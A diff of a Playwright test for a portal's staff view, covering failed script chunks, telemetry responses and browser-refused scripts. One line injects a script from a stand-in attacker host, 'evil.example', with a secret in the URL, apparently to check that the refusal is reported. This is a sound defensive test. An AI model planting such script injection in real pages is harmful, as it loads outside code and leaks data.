@@ -14,7 +14,7 @@ import { buildReports, type FileServer, serveFolder } from './colleague.ts';
 
 const STAFF = 'staff@certdeck.test';
 const text = (key: string) => {
-  const file = join(import.meta.dirname, '../../host/src/pages/portal/locales/zh.json');
+  const file = join(import.meta.dirname, '../../host/src/pages/staff/locales/zh.json');
   const found = (JSON.parse(readFileSync(file, 'utf8')) as Record<string, string>)[key];
   if (found === undefined) throw new Error(`no text ${key}`);
   return found;
@@ -155,10 +155,10 @@ test.describe.serial('staff', () => {
   test('see what failed for a customer, and what a browser refused', async ({ browser }) => {
     const customer = await openSignedIn(browser, {}, portal.url);
     await customer.route('**/remotes/reports/**/screen-overview.js', (route) => route.abort());
-    const told = customer.waitForResponse((answer) => answer.url().endsWith('/telemetry'));
+    const report = customer.waitForResponse((answer) => answer.url().endsWith('/telemetry'));
     await customer.goto(`${portal.url}/reports/overview`);
     await expect(customer.getByRole('main').getByRole('alert')).toContainText('CHUNK');
-    expect((await told).status()).toBe(204);
+    expect((await report).status()).toBe(204);
     await customer.evaluate(() => {
       const script = document.createElement('script');
       script.src = 'https://evil.example/x.js?secret=1';
